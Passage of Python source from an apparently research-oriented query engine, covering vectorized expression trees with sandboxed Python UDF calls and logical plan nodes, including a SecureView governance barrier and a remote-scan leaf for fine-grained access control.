                    boundary, side.schema, condition, out_exprs, keys_c
                )
            except Exception:  # noqa: BLE001 - fusion is an optional fast path
                fused = None
            if fused is None:
                self._compiler.note_fusion(False)
                return None
            fused_sides.append(fused)
        self._compiler.note_fusion(True)
        return PhysJoin(
            fused_sides[0],
            fused_sides[1],
            logical.how,
            logical.condition,
            logical.schema,
            compiler=self._compiler,
            pre_keys=len(left_keys),
        )
