"""Expression trees with vectorized evaluation.

Expressions start *unresolved* (column names as strings) and are bound by the
analyzer to positional :class:`BoundRef` nodes. Evaluation takes a
:class:`ColumnBatch` and an :class:`EvalContext` and returns a value list.

Governance-relevant classification lives here:

- :func:`contains_user_code` — true if any node executes user Python; the
  SecureView barrier refuses to push such expressions below policy filters.
- ``deterministic`` — non-deterministic expressions are also pinned above
  barriers (a repeatably-evaluated predicate could otherwise probe data).
- :class:`CurrentUser` / :class:`IsAccountGroupMember` — the dynamic-view
  primitives; they evaluate against the *session* user at run time, which is
  what makes one view definition yield different rows per user.
"""

from __future__ import annotations

import hashlib
import math
from dataclasses import dataclass, field as dc_field
from typing import Any, Callable, Iterable, Sequence

from repro.engine.batch import ColumnBatch
from repro.engine.types import (
    BINARY,
    BOOL,
    FLOAT,
    INT,
    STRING,
    DataType,
    Schema,
    common_numeric_type,
    is_numeric,
)
from repro.engine.udf import PythonUDF
from repro.errors import AnalysisError, ExecutionError


@dataclass
class EvalContext:
    """Per-query evaluation context.

    ``udf_runtime`` decides *where* Python UDFs execute (inline for the
    unisolated baseline, sandboxed via the Dispatcher under Lakeguard).
    ``udf_results`` caches fused-UDF outputs keyed by call id so a fusion
    group costs one sandbox round-trip however many expressions use it.
    """

    user: str = "anonymous"
    groups: frozenset[str] = frozenset()
    udf_runtime: "UDFRuntime | None" = None
    udf_results: dict[int, list[Any]] = dc_field(default_factory=dict)
    #: Opaque authorization handle (e.g. a catalog UserContext) that governed
    #: data sources use to vend credentials. The engine never interprets it.
    auth: Any = None
    #: The instrumented QueryContext this evaluation belongs to (opaque to
    #: the engine; governed components use it to emit spans).
    query_ctx: Any = None
    #: Configured row-count ceiling per emitted batch (0 = unlimited); data
    #: sources chunk their output to honor it.
    batch_size: int = 0


class UDFRuntime:
    """Where UDF code runs. The default executes inline (no isolation)."""

    def run_udf(self, udf: PythonUDF, arg_columns: list[list[Any]]) -> list[Any]:
        return udf.invoke_rows(arg_columns)

    def run_fused(
        self, calls: list[tuple[int, PythonUDF, list[list[Any]]]]
    ) -> dict[int, list[Any]]:
        """Execute several UDF calls 'together'; inline just loops.

        Routed through :meth:`run_udf` so subclasses overriding the single
        path behave identically on the fused path.
        """
        return {call_id: self.run_udf(udf, args) for call_id, udf, args in calls}


# ---------------------------------------------------------------------------
# Base class
# ---------------------------------------------------------------------------


_NEXT_EXPR_ID = 0


def _next_id() -> int:
    global _NEXT_EXPR_ID
    _NEXT_EXPR_ID += 1
    return _NEXT_EXPR_ID


class Expression:
    """Base expression node."""

    def __init__(self, children: tuple["Expression", ...] = ()):
        self.children: tuple[Expression, ...] = children
        self.dtype: DataType | None = None
        self.expr_id: int = _next_id()

    # -- structure ------------------------------------------------------------

    def with_children(self, children: Sequence["Expression"]) -> "Expression":
        """Rebuild this node with new children (subclasses override)."""
        raise NotImplementedError(type(self).__name__)

    def transform(self, fn: Callable[["Expression"], "Expression"]) -> "Expression":
        """Bottom-up rewrite."""
        new_children = tuple(c.transform(fn) for c in self.children)
        node = self if new_children == self.children else self.with_children(new_children)
        return fn(node)

    def walk(self) -> Iterable["Expression"]:
        yield self
        for child in self.children:
            yield from child.walk()

    # -- properties -----------------------------------------------------------

    @property
    def resolved(self) -> bool:
        return self.dtype is not None and all(c.resolved for c in self.children)

    @property
    def deterministic(self) -> bool:
        return all(c.deterministic for c in self.children)

    @property
    def is_user_code(self) -> bool:
        """Does *this node itself* run user-supplied code?"""
        return False

    def references(self) -> set[int]:
        """Positions of all BoundRefs below this node."""
        refs: set[int] = set()
        for node in self.walk():
            if isinstance(node, BoundRef):
                refs.add(node.index)
        return refs

    # -- evaluation -------------------------------------------------------------

    def eval(self, batch: ColumnBatch, ctx: EvalContext) -> list[Any]:
        """Vectorized evaluation: one output value per input row."""
        raise NotImplementedError(type(self).__name__)

    def output_name(self) -> str:
        """Column name this expression gets when projected without an alias."""
        return str(self)


def contains_user_code(expr: Expression) -> bool:
    """True if any node in the tree executes user-supplied Python."""
    return any(node.is_user_code for node in expr.walk())


def to_expression(value: Any) -> Expression:
    """Coerce strings to column refs and Python scalars to literals."""
    if isinstance(value, Expression):
        return value
    if isinstance(value, str):
        return UnresolvedColumn(value)
    return Literal(value)


def lit(value: Any) -> "Literal":
    return Literal(value)


def col(name: str) -> "UnresolvedColumn":
    return UnresolvedColumn(name)


# ---------------------------------------------------------------------------
# Leaves
# ---------------------------------------------------------------------------


class Literal(Expression):
    """A constant; its type is inferred from the Python value."""

    def __init__(self, value: Any):
        super().__init__()
        self.value = value
        self.dtype = self._infer(value)

    @staticmethod
    def _infer(value: Any) -> DataType:
        if isinstance(value, bool):
            return BOOL
        if isinstance(value, int):
            return INT
        if isinstance(value, float):
            return FLOAT
        if isinstance(value, (bytes, bytearray)):
            return BINARY
        if value is None:
            return STRING  # NULL literal defaults to string; Cast can retype
        if isinstance(value, str):
            return STRING
        raise AnalysisError(f"unsupported literal type: {type(value).__name__}")

    def with_children(self, children):
        return self

    def eval(self, batch, ctx):
        return [self.value] * batch.num_rows

    def output_name(self) -> str:
        return repr(self.value)

    def __str__(self):
        return repr(self.value)

    def __eq__(self, other):
        return isinstance(other, Literal) and other.value == self.value

    def __hash__(self):
        return hash(("lit", self.value))


class UnresolvedColumn(Expression):
    """A column reference by (possibly qualified) name; bound by the analyzer."""

    def __init__(self, name: str):
        super().__init__()
        self.name = name

    @property
    def resolved(self) -> bool:
        return False

    def with_children(self, children):
        return self

    def eval(self, batch, ctx):
        raise ExecutionError(f"unresolved column '{self.name}' reached execution")

    def output_name(self) -> str:
        return self.name.rpartition(".")[2]

    def __str__(self):
        return self.name


class BoundRef(Expression):
    """A column reference resolved to a position in the child's output."""

    def __init__(self, index: int, name: str, dtype: DataType):
        super().__init__()
        self.index = index
        self.name = name
        self.dtype = dtype

    def with_children(self, children):
        return self

    def eval(self, batch, ctx):
        return batch.columns[self.index]

    def output_name(self) -> str:
        return self.name

    def __str__(self):
        return f"{self.name}#{self.index}"


class Star(Expression):
    """``SELECT *`` placeholder; expanded by the analyzer."""

    def __init__(self, qualifier: str | None = None):
        super().__init__()
        self.qualifier = qualifier

    @property
    def resolved(self) -> bool:
        return False

    def with_children(self, children):
        return self

    def eval(self, batch, ctx):
        raise ExecutionError("Star must be expanded during analysis")

    def __str__(self):
        return f"{self.qualifier}.*" if self.qualifier else "*"


class CurrentUser(Expression):
    """``CURRENT_USER()`` — the session identity, evaluated at run time."""

    def __init__(self):
        super().__init__()
        self.dtype = STRING

    def with_children(self, children):
        return self

    def eval(self, batch, ctx):
        return [ctx.user] * batch.num_rows

    def output_name(self) -> str:
        return "current_user()"

    def __str__(self):
        return "current_user()"


class IsAccountGroupMember(Expression):
    """``IS_ACCOUNT_GROUP_MEMBER('g')`` — group test against the session."""

    def __init__(self, group: str):
        super().__init__()
        self.group = group
        self.dtype = BOOL

    def with_children(self, children):
        return self

    def eval(self, batch, ctx):
        return [self.group in ctx.groups] * batch.num_rows

    def output_name(self) -> str:
        return f"is_account_group_member({self.group!r})"

    def __str__(self):
        return self.output_name()


# ---------------------------------------------------------------------------
# Unary / wrapper nodes
# ---------------------------------------------------------------------------


class Alias(Expression):
    """Name a computed column."""

    def __init__(self, child: Expression, name: str):
        super().__init__((child,))
        self.name = name
        self.dtype = child.dtype

    @property
    def child(self) -> Expression:
        return self.children[0]

    def with_children(self, children):
        return Alias(children[0], self.name)

    def eval(self, batch, ctx):
        return self.child.eval(batch, ctx)

    def output_name(self) -> str:
        return self.name

    def __str__(self):
        return f"{self.child} AS {self.name}"


class Cast(Expression):
    """Explicit type conversion with SQL-ish semantics."""

    def __init__(self, child: Expression, dtype: DataType):
        super().__init__((child,))
        self.target = dtype
        self.dtype = dtype

    @property
    def child(self) -> Expression:
        return self.children[0]

    def with_children(self, children):
        return Cast(children[0], self.target)

    def _cast_one(self, value: Any) -> Any:
        if value is None:
            return None
        try:
            if self.target == INT:
                return int(value)
            if self.target == FLOAT:
                return float(value)
            if self.target == STRING:
                return str(value)
            if self.target == BOOL:
                if isinstance(value, str):
                    return value.strip().lower() in ("true", "t", "1", "yes")
                return bool(value)
            if self.target == BINARY:
                return value.encode() if isinstance(value, str) else bytes(value)
        except (TypeError, ValueError) as exc:
            raise ExecutionError(f"cannot cast {value!r} to {self.target}: {exc}")
        raise ExecutionError(f"unsupported cast target {self.target}")

    def eval(self, batch, ctx):
        return [self._cast_one(v) for v in self.child.eval(batch, ctx)]

    def output_name(self) -> str:
        return f"cast({self.child.output_name()} as {self.target})"

    def __str__(self):
        return self.output_name()


class Not(Expression):
    """Logical negation with NULL propagation."""

    def __init__(self, child: Expression):
        super().__init__((child,))
        self.dtype = BOOL

    def with_children(self, children):
        return Not(children[0])

    def eval(self, batch, ctx):
        return [None if v is None else (not v) for v in self.children[0].eval(batch, ctx)]

    def __str__(self):
        return f"NOT ({self.children[0]})"


class IsNull(Expression):
    """``IS [NOT] NULL`` test (always a non-NULL boolean)."""

    def __init__(self, child: Expression, negated: bool = False):
        super().__init__((child,))
        self.negated = negated
        self.dtype = BOOL

    def with_children(self, children):
        return IsNull(children[0], self.negated)

    def eval(self, batch, ctx):
        values = self.children[0].eval(batch, ctx)
        if self.negated:
            return [v is not None for v in values]
        return [v is None for v in values]

    def __str__(self):
        op = "IS NOT NULL" if self.negated else "IS NULL"
        return f"({self.children[0]}) {op}"


# ---------------------------------------------------------------------------
# Binary operators
# ---------------------------------------------------------------------------

_ARITH_OPS: dict[str, Callable[[Any, Any], Any]] = {
    "+": lambda a, b: a + b,
    "-": lambda a, b: a - b,
    "*": lambda a, b: a * b,
    "/": lambda a, b: a / b if b != 0 else None,  # SQL: x/0 -> NULL
    "%": lambda a, b: a % b if b != 0 else None,
}

_CMP_OPS: dict[str, Callable[[Any, Any], bool]] = {
    "=": lambda a, b: a == b,
    "!=": lambda a, b: a != b,
    "<": lambda a, b: a < b,
    "<=": lambda a, b: a <= b,
    ">": lambda a, b: a > b,
    ">=": lambda a, b: a >= b,
}


class Arithmetic(Expression):
    """Numeric (or string ``+`` concatenation) binary arithmetic."""

    def __init__(self, op: str, left: Expression, right: Expression):
        if op not in _ARITH_OPS:
            raise AnalysisError(f"unknown arithmetic operator '{op}'")
        super().__init__((left, right))
        self.op = op
        self._bind_type()

    def _bind_type(self) -> None:
        left, right = self.children
        if left.dtype is None or right.dtype is None:
            return
        if self.op == "+" and left.dtype == STRING and right.dtype == STRING:
            self.dtype = STRING
        elif self.op == "/" and is_numeric(left.dtype) and is_numeric(right.dtype):
            self.dtype = FLOAT
        else:
            self.dtype = common_numeric_type(left.dtype, right.dtype)

    def with_children(self, children):
        return Arithmetic(self.op, children[0], children[1])

    def eval(self, batch, ctx):
        fn = _ARITH_OPS[self.op]
        lhs = self.children[0].eval(batch, ctx)
        rhs = self.children[1].eval(batch, ctx)
        return [
            None if (a is None or b is None) else fn(a, b) for a, b in zip(lhs, rhs)
        ]

    def __str__(self):
        return f"({self.children[0]} {self.op} {self.children[1]})"


class Comparison(Expression):
    """Binary comparison with NULL-propagating semantics."""

    def __init__(self, op: str, left: Expression, right: Expression):
        if op not in _CMP_OPS:
            raise AnalysisError(f"unknown comparison operator '{op}'")
        super().__init__((left, right))
        self.op = op
        self.dtype = BOOL

    def with_children(self, children):
        return Comparison(self.op, children[0], children[1])

    def eval(self, batch, ctx):
        fn = _CMP_OPS[self.op]
        lhs = self.children[0].eval(batch, ctx)
        rhs = self.children[1].eval(batch, ctx)
        return [
            None if (a is None or b is None) else fn(a, b) for a, b in zip(lhs, rhs)
        ]

    def __str__(self):
        return f"({self.children[0]} {self.op} {self.children[1]})"


class BooleanOp(Expression):
    """AND/OR with SQL three-valued logic."""

    def __init__(self, op: str, left: Expression, right: Expression):
        if op not in ("AND", "OR"):
            raise AnalysisError(f"unknown boolean operator '{op}'")
        super().__init__((left, right))
        self.op = op
        self.dtype = BOOL

    def with_children(self, children):
        return BooleanOp(self.op, children[0], children[1])

    def eval(self, batch, ctx):
        lhs = self.children[0].eval(batch, ctx)
        rhs = self.children[1].eval(batch, ctx)
        out = []
        if self.op == "AND":
            for a, b in zip(lhs, rhs):
                if a is False or b is False:
                    out.append(False)
                elif a is None or b is None:
                    out.append(None)
                else:
                    out.append(bool(a) and bool(b))
        else:
            for a, b in zip(lhs, rhs):
                if a is True or b is True:
                    out.append(True)
                elif a is None or b is None:
                    out.append(None)
                else:
                    out.append(bool(a) or bool(b))
        return out

    def __str__(self):
        return f"({self.children[0]} {self.op} {self.children[1]})"


class InList(Expression):
    """``expr IN (v1, v2, ...)`` over literal values."""

    def __init__(self, child: Expression, values: tuple[Any, ...], negated: bool = False):
        super().__init__((child,))
        self.values = tuple(values)
        self.negated = negated
        self.dtype = BOOL
        self._value_set = set(values)

    def with_children(self, children):
        return InList(children[0], self.values, self.negated)

    def eval(self, batch, ctx):
        out = []
        for v in self.children[0].eval(batch, ctx):
            if v is None:
                out.append(None)
            else:
                hit = v in self._value_set
                out.append((not hit) if self.negated else hit)
        return out

    def __str__(self):
        op = "NOT IN" if self.negated else "IN"
        return f"({self.children[0]} {op} {list(self.values)})"


class Like(Expression):
    """SQL ``LIKE`` with ``%`` (any run) and ``_`` (any char) wildcards."""

    def __init__(self, child: Expression, pattern: str, negated: bool = False):
        super().__init__((child,))
        self.pattern = pattern
        self.negated = negated
        self.dtype = BOOL
        self._regex = self._compile(pattern)

    @staticmethod
    def _compile(pattern: str):
        import re

        out = []
        for ch in pattern:
            if ch == "%":
                out.append(".*")
            elif ch == "_":
                out.append(".")
            else:
                out.append(re.escape(ch))
        return re.compile("^" + "".join(out) + "$", re.DOTALL)

    def with_children(self, children):
        return Like(children[0], self.pattern, self.negated)

    def eval(self, batch, ctx):
        out = []
        for value in self.children[0].eval(batch, ctx):
            if value is None:
                out.append(None)
            else:
                hit = bool(self._regex.match(str(value)))
                out.append((not hit) if self.negated else hit)
        return out

    def __str__(self):
        op = "NOT LIKE" if self.negated else "LIKE"
        return f"({self.children[0]} {op} {self.pattern!r})"


class CaseWhen(Expression):
    """``CASE WHEN c1 THEN v1 ... ELSE e END``."""

    def __init__(
        self,
        branches: Sequence[tuple[Expression, Expression]],
        otherwise: Expression | None = None,
    ):
        flat: list[Expression] = []
        for cond, value in branches:
            flat.extend((cond, value))
        self.num_branches = len(branches)
        self.has_else = otherwise is not None
        if otherwise is not None:
            flat.append(otherwise)
        super().__init__(tuple(flat))
        value_types = {v.dtype for _, v in branches if v.dtype is not None}
        if otherwise is not None and otherwise.dtype is not None:
            value_types.add(otherwise.dtype)
        self.dtype = value_types.pop() if len(value_types) == 1 else (
            FLOAT if value_types and all(is_numeric(t) for t in value_types) else STRING
        )

    def branches(self) -> list[tuple[Expression, Expression]]:
        return [
            (self.children[2 * i], self.children[2 * i + 1])
            for i in range(self.num_branches)
        ]

    def otherwise(self) -> Expression | None:
        return self.children[-1] if self.has_else else None

    def with_children(self, children):
        branches = [
            (children[2 * i], children[2 * i + 1]) for i in range(self.num_branches)
        ]
        otherwise = children[-1] if self.has_else else None
        return CaseWhen(branches, otherwise)

    def eval(self, batch, ctx):
        n = batch.num_rows
        result: list[Any] = [None] * n
        decided = [False] * n
        for cond, value in self.branches():
            mask = cond.eval(batch, ctx)
            vals = value.eval(batch, ctx)
            for i in range(n):
                if not decided[i] and mask[i]:
                    result[i] = vals[i]
                    decided[i] = True
        otherwise = self.otherwise()
        if otherwise is not None:
            vals = otherwise.eval(batch, ctx)
            for i in range(n):
                if not decided[i]:
                    result[i] = vals[i]
        return result

    def __str__(self):
        parts = " ".join(f"WHEN {c} THEN {v}" for c, v in self.branches())
        tail = f" ELSE {self.otherwise()}" if self.has_else else ""
        return f"CASE {parts}{tail} END"


# ---------------------------------------------------------------------------
# Built-in scalar functions
# ---------------------------------------------------------------------------


def _sha256(value: Any) -> str | None:
    if value is None:
        return None
    data = value if isinstance(value, (bytes, bytearray)) else str(value).encode()
    return hashlib.sha256(data).hexdigest()


def _null_safe(fn: Callable[..., Any]) -> Callable[..., Any]:
    def wrapped(*args):
        if any(a is None for a in args):
            return None
        return fn(*args)

    return wrapped


#: name -> (row_fn, result_type_fn(arg_types) -> DataType)
BUILTIN_FUNCTIONS: dict[str, tuple[Callable[..., Any], Callable[[list[DataType]], DataType]]] = {
    "upper": (_null_safe(lambda s: s.upper()), lambda ts: STRING),
    "lower": (_null_safe(lambda s: s.lower()), lambda ts: STRING),
    "length": (_null_safe(len), lambda ts: INT),
    "trim": (_null_safe(lambda s: s.strip()), lambda ts: STRING),
    "concat": (_null_safe(lambda *ss: "".join(str(s) for s in ss)), lambda ts: STRING),
    "substring": (
        _null_safe(lambda s, pos, n: s[max(pos - 1, 0) : max(pos - 1, 0) + n]),
        lambda ts: STRING,
    ),
    "abs": (_null_safe(abs), lambda ts: ts[0] if ts else FLOAT),
    "round": (_null_safe(lambda x, d=0: round(x, int(d))), lambda ts: FLOAT),
    "floor": (_null_safe(lambda x: int(math.floor(x))), lambda ts: INT),
    "ceil": (_null_safe(lambda x: int(math.ceil(x))), lambda ts: INT),
    "sqrt": (_null_safe(lambda x: math.sqrt(x) if x >= 0 else None), lambda ts: FLOAT),
    "coalesce": (
        lambda *args: next((a for a in args if a is not None), None),
        lambda ts: ts[0] if ts else STRING,
    ),
    "greatest": (_null_safe(max), lambda ts: ts[0] if ts else FLOAT),
    "least": (_null_safe(min), lambda ts: ts[0] if ts else FLOAT),
    "sha256": (_sha256, lambda ts: STRING),
    "hash": (_null_safe(lambda v: hash(v) & 0x7FFFFFFF), lambda ts: INT),
    "startswith": (_null_safe(lambda s, p: s.startswith(p)), lambda ts: BOOL),
    "endswith": (_null_safe(lambda s, p: s.endswith(p)), lambda ts: BOOL),
    "contains": (_null_safe(lambda s, p: p in s), lambda ts: BOOL),
    "replace": (_null_safe(lambda s, a, b: s.replace(a, b)), lambda ts: STRING),
    "if": (
        lambda c, t, f: t if c else f,
        lambda ts: ts[1] if len(ts) > 1 else STRING,
    ),
}


class FunctionCall(Expression):
    """A call to an *engine built-in* scalar function (trusted code)."""

    def __init__(self, name: str, args: tuple[Expression, ...]):
        lowered = name.lower()
        if lowered not in BUILTIN_FUNCTIONS:
            raise AnalysisError(
                f"unknown function '{name}'; built-ins: {sorted(BUILTIN_FUNCTIONS)}"
            )
        super().__init__(args)
        self.name = lowered
        self._bind_type()

    def _bind_type(self) -> None:
        if all(c.dtype is not None for c in self.children):
            _, type_fn = BUILTIN_FUNCTIONS[self.name]
            self.dtype = type_fn([c.dtype for c in self.children])

    def with_children(self, children):
        return FunctionCall(self.name, tuple(children))

    def eval(self, batch, ctx):
        fn, _ = BUILTIN_FUNCTIONS[self.name]
        arg_columns = [c.eval(batch, ctx) for c in self.children]
        if not arg_columns:
            return [fn() for _ in range(batch.num_rows)]
        return [fn(*row) for row in zip(*arg_columns)]

    def output_name(self) -> str:
        return f"{self.name}({', '.join(c.output_name() for c in self.children)})"

    def __str__(self):
        return f"{self.name}({', '.join(str(c) for c in self.children)})"


class PythonUDFCall(Expression):
    """A call to user Python code.

    ``is_user_code`` is True: this node is what the SecureView barrier and
    the sandbox dispatcher key off. Execution is delegated to the context's
    :class:`UDFRuntime`; fused results may already sit in ``ctx.udf_results``.
    """

    def __init__(self, udf: PythonUDF, args: tuple[Expression, ...]):
        super().__init__(args)
        self.udf = udf
        self.dtype = udf.return_type
        #: Fusion group assigned by the optimizer; None = not fused.
        self.fusion_group: int | None = None

    @property
    def is_user_code(self) -> bool:
        return True

    @property
    def deterministic(self) -> bool:
        return self.udf.deterministic and super().deterministic

    def with_children(self, children):
        clone = PythonUDFCall(self.udf, tuple(children))
        clone.fusion_group = self.fusion_group
        return clone

    def eval(self, batch, ctx):
        cached = ctx.udf_results.get(self.expr_id)
        if cached is not None:
            return cached
        arg_columns = [c.eval(batch, ctx) for c in self.children]
        runtime = ctx.udf_runtime or UDFRuntime()
        result = runtime.run_udf(self.udf, arg_columns)
        if len(result) != batch.num_rows:
            raise ExecutionError(
                f"UDF '{self.udf.name}' returned {len(result)} values for "
                f"{batch.num_rows} rows"
            )
        return result

    def output_name(self) -> str:
        return f"{self.udf.name}({', '.join(c.output_name() for c in self.children)})"

    def __str__(self):
        return f"pyudf:{self.output_name()}"


# ---------------------------------------------------------------------------
# Sort order helper
# ---------------------------------------------------------------------------


@dataclass
class SortOrder:
    """One ORDER BY term."""

    expr: Expression
    ascending: bool = True
    nulls_first: bool = True

    def __str__(self):
        direction = "ASC" if self.ascending else "DESC"
        return f"{self.expr} {direction}"


def bind_expression(expr: Expression, schema: Schema) -> Expression:
    """Resolve all :class:`UnresolvedColumn` nodes against ``schema``."""

    def resolve(node: Expression) -> Expression:
        if isinstance(node, UnresolvedColumn):
            index = schema.field_index(node.name)
            field = schema[index]
            return BoundRef(index, field.name, field.dtype)
        if isinstance(node, (Arithmetic, FunctionCall)):
            # Re-run type binding now that children are resolved.
            return node.with_children(node.children)
        if isinstance(node, Alias) and node.dtype is None:
            return node.with_children(node.children)
        return node

    return expr.transform(resolve)
