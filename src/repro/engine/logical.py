"""Logical query plans.

Nodes of note for the paper's mechanics:

- :class:`SecureView` — the barrier the planner injects around governed
  relations (views, row filters, column masks). Expressions containing user
  code or non-determinism are never pushed below it (Fig. 8, §3.4).
- :class:`RemoteScan` — the eFGAC leaf: a serialized Spark Connect sub-plan
  executed by a remote (serverless) endpoint; the optimizer pushes filters,
  projections, and partial aggregates into it.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Any, Callable, Iterable, Sequence

from repro.engine.aggregates import AggregateCall
from repro.engine.expressions import Expression, SortOrder
from repro.engine.types import Field, Schema
from repro.errors import AnalysisError

JOIN_TYPES = ("inner", "left", "right", "full", "semi", "anti", "cross")


@dataclass(frozen=True)
class TableRef:
    """Resolved reference to a governed table: metadata the engine may hold.

    ``annotations`` carries catalog hints such as
    ``requires_external_fgac`` (this compute may not process the relation
    locally) — exactly the mechanism §3.4 describes for dedicated clusters.
    """

    full_name: str
    schema: Schema
    storage_root: str | None = None
    owner: str | None = None
    annotations: frozenset[str] = frozenset()
    #: When this scan was authorized under definer rights (a view body), the
    #: principal whose rights vend the runtime credential. The querying
    #: user's identity is still recorded for auditing.
    auth_delegate: str | None = None
    #: Pin the scan to a historical table version (Delta time travel).
    snapshot_version: int | None = None

    def has_annotation(self, name: str) -> bool:
        return name in self.annotations


class LogicalPlan:
    """Base logical plan node."""

    def __init__(self, children: Sequence["LogicalPlan"] = ()):
        self.children: tuple[LogicalPlan, ...] = tuple(children)

    @property
    def schema(self) -> Schema:
        raise NotImplementedError(type(self).__name__)

    @property
    def resolved(self) -> bool:
        return all(c.resolved for c in self.children)

    def with_children(self, children: Sequence["LogicalPlan"]) -> "LogicalPlan":
        raise NotImplementedError(type(self).__name__)

    def transform_up(self, fn: Callable[["LogicalPlan"], "LogicalPlan"]) -> "LogicalPlan":
        """Bottom-up plan rewrite."""
        new_children = tuple(c.transform_up(fn) for c in self.children)
        node = self
        if new_children != self.children:
            node = self.with_children(new_children)
        return fn(node)

    def walk(self) -> Iterable["LogicalPlan"]:
        yield self
        for child in self.children:
            yield from child.walk()

    def expressions(self) -> list[Expression]:
        """Expressions held directly by this node (subclasses override)."""
        return []

    # -- explain ---------------------------------------------------------------

    def _node_label(self) -> str:
        return type(self).__name__

    def explain(self) -> str:
        """Indented plan tree, Spark's ``explain()`` style."""
        lines: list[str] = []

        def render(node: LogicalPlan, depth: int) -> None:
            lines.append("  " * depth + "+- " + node._node_label())
            for child in node.children:
                render(child, depth + 1)

        render(self, 0)
        return "\n".join(lines)

    def __str__(self) -> str:
        return self.explain()


# ---------------------------------------------------------------------------
# Leaves
# ---------------------------------------------------------------------------


class UnresolvedRelation(LogicalPlan):
    """A table/view name the analyzer still has to resolve (and authorize).

    ``options`` carries source-specific read options — e.g. the Delta
    Connect extension's time-travel ``{"version": 3}`` — which governed
    resolvers may honour.
    """

    def __init__(self, name: str, options: dict[str, Any] | None = None):
        super().__init__()
        self.name = name
        self.options = dict(options or {})

    @property
    def schema(self) -> Schema:
        raise AnalysisError(f"relation '{self.name}' is not resolved")

    @property
    def resolved(self) -> bool:
        return False

    def with_children(self, children):
        return self

    def _node_label(self) -> str:
        suffix = f" options={self.options}" if self.options else ""
        return f"UnresolvedRelation [{self.name}]{suffix}"


class LocalRelation(LogicalPlan):
    """In-memory data supplied by the client (``createDataFrame``)."""

    def __init__(self, schema: Schema, columns: list[list[Any]]):
        super().__init__()
        self._schema = schema
        self.columns = columns

    @property
    def schema(self) -> Schema:
        return self._schema

    def with_children(self, children):
        return self

    def _node_label(self) -> str:
        rows = len(self.columns[0]) if self.columns else 0
        return f"LocalRelation {self._schema} rows={rows}"


class Range(LogicalPlan):
    """``spark.range(start, end, step)`` — a generated integer column ``id``."""

    def __init__(self, start: int, end: int, step: int = 1):
        super().__init__()
        if step == 0:
            raise AnalysisError("range step must be non-zero")
        self.start, self.end, self.step = start, end, step
        from repro.engine.types import INT

        self._schema = Schema((Field("id", INT, nullable=False),))

    @property
    def schema(self) -> Schema:
        return self._schema

    def with_children(self, children):
        return self

    def _node_label(self) -> str:
        return f"Range ({self.start}, {self.end}, step={self.step})"


class Scan(LogicalPlan):
    """A governed table scan, possibly narrowed by pushed-down state."""

    def __init__(
        self,
        table: TableRef,
        required_columns: tuple[int, ...] | None = None,
        pushed_filters: tuple[Expression, ...] = (),
    ):
        super().__init__()
        self.table = table
        self.required_columns = required_columns
        self.pushed_filters = tuple(pushed_filters)

    @property
    def schema(self) -> Schema:
        if self.required_columns is None:
            return self.table.schema
        return self.table.schema.select(list(self.required_columns))

    def with_children(self, children):
        return self

    def _node_label(self) -> str:
        extras = []
        if self.required_columns is not None:
            names = [self.table.schema[i].name for i in self.required_columns]
            extras.append(f"columns={names}")
        if self.pushed_filters:
            extras.append(f"filters=[{', '.join(map(str, self.pushed_filters))}]")
        suffix = (" " + ", ".join(extras)) if extras else ""
        return f"Scan [{self.table.full_name}]{suffix}"


class RemoteScan(LogicalPlan):
    """eFGAC leaf: a sub-plan executed remotely by a governed endpoint.

    ``payload`` is the wire-format Spark Connect plan shipped to the
    serverless endpoint; ``pushed`` records which refinements the optimizer
    folded into the remote query (for explain output and benchmarks).
    """

    def __init__(
        self,
        payload: dict[str, Any],
        schema: Schema,
        source_tables: tuple[str, ...],
        pushed: dict[str, Any] | None = None,
    ):
        super().__init__()
        self.payload = payload
        self._schema = schema
        self.source_tables = source_tables
        self.pushed = dict(pushed or {})

    @property
    def schema(self) -> Schema:
        return self._schema

    def with_children(self, children):
        return self

    def with_schema(self, schema: Schema) -> "RemoteScan":
        clone = RemoteScan(self.payload, schema, self.source_tables, self.pushed)
        return clone

    def _node_label(self) -> str:
        pushed = f" pushed={self.pushed}" if self.pushed else ""
        return f"RemoteScan [{', '.join(self.source_tables)}]{pushed}"


# ---------------------------------------------------------------------------
# Unary nodes
# ---------------------------------------------------------------------------


class Project(LogicalPlan):
    """Column projection / computation (``SELECT`` list)."""

    def __init__(self, child: LogicalPlan, exprs: Sequence[Expression]):
        super().__init__((child,))
        self.exprs = tuple(exprs)

    @property
    def child(self) -> LogicalPlan:
        return self.children[0]

    @property
    def schema(self) -> Schema:
        fields = []
        for e in self.exprs:
            if e.dtype is None:
                raise AnalysisError(f"projection '{e}' is unresolved")
            fields.append(Field(e.output_name(), e.dtype))
        return Schema(tuple(fields))

    @property
    def resolved(self) -> bool:
        return super().resolved and all(e.resolved for e in self.exprs)

    def with_children(self, children):
        return Project(children[0], self.exprs)

    def expressions(self):
        return list(self.exprs)

    def _node_label(self) -> str:
        return f"Project [{', '.join(str(e) for e in self.exprs)}]"


class Filter(LogicalPlan):
    """Row filtering by a boolean condition (``WHERE``)."""

    def __init__(self, child: LogicalPlan, condition: Expression):
        super().__init__((child,))
        self.condition = condition

    @property
    def child(self) -> LogicalPlan:
        return self.children[0]

    @property
    def schema(self) -> Schema:
        return self.child.schema

    @property
    def resolved(self) -> bool:
        return super().resolved and self.condition.resolved

    def with_children(self, children):
        return Filter(children[0], self.condition)

    def expressions(self):
        return [self.condition]

    def _node_label(self) -> str:
        return f"Filter [{self.condition}]"


class SecureView(LogicalPlan):
    """Governance barrier wrapping a policy-rewritten relation.

    Everything *below* this node was produced by the trusted planner from
    catalog policies (view text, row filters, column masks). The optimizer
    must not move user-controlled or non-deterministic expressions below it,
    otherwise user code could observe pre-policy rows (§3.4, Fig. 8).
    """

    def __init__(self, child: LogicalPlan, name: str, owner: str | None = None):
        super().__init__((child,))
        self.name = name
        self.owner = owner

    @property
    def child(self) -> LogicalPlan:
        return self.children[0]

    @property
    def schema(self) -> Schema:
        return self.child.schema

    def with_children(self, children):
        return SecureView(children[0], self.name, self.owner)

    def _node_label(self) -> str:
        return f"SecureView [{self.name}]"


class SubqueryAlias(LogicalPlan):
    """Attach a relation alias; re-qualifies the child's output columns."""

    def __init__(self, child: LogicalPlan, alias: str):
        super().__init__((child,))
        self.alias = alias

    @property
    def child(self) -> LogicalPlan:
        return self.children[0]

    @property
    def schema(self) -> Schema:
        return self.child.schema.with_qualifier(self.alias)

    def with_children(self, children):
        return SubqueryAlias(children[0], self.alias)

    def _node_label(self) -> str:
        return f"SubqueryAlias [{self.alias}]"


class Aggregate(LogicalPlan):
